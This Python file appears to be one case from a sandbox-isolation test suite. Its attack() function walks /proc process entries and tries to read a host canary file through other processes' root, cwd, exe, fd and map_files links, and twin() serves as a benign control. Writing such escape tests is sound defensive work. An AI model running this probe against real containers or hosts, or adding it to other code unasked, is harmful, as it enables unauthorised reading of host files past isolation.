"""Reach the host's files through the directories of other processes in /proc.

Technique: `root`, `cwd`, `exe`, `fd` and `map_files` of a process are links into the files it sees itself. A process of
    ours that sees more than the program (an init, a server) would lend its sight. Tried for every process that is
    listed, for those that are not, and for the number that the server has outside.
Success: a file of the host is read, or a link of a process of ours tells where it points.
Stopped by: pid_namespace, own_uid, no_capabilities
"""


def attack():
    mine = {os.getpid()}
    listed = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    for pid in sorted((listed | set(range(1, 400)) | {canary["pid"]}) - mine):
        try:
            with open(f"/proc/{pid}/root{canary['file']}") as found:
                return f"/proc/{pid}/root: {found.read(100)}"
        except OSError:
            pass
        links = [f"/proc/{pid}/{name}" for name in ("root", "cwd", "exe")]
        for directory in ("fd", "map_files"):
            try:
                links += [f"/proc/{pid}/{directory}/{name}" for name in os.listdir(f"/proc/{pid}/{directory}")]
            except OSError:
                pass
        for link in links:
            try:
                return f"{link} is {os.readlink(link)}"
            except OSError:
                pass


def twin():
    """A program looks at its own children in this way, as supervisors and debuggers of one's own do."""
    child = os.fork()
    if child == 0:
        os.execvp("sleep", ["sleep", "20"])
    try:
        assert os.path.samefile(f"/proc/{child}/cwd", ".")
        assert os.readlink(f"/proc/{child}/fd/0") == os.readlink("/proc/self/fd/0")
        assert os.readlink(f"/proc/{child}/root") == "/"
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)
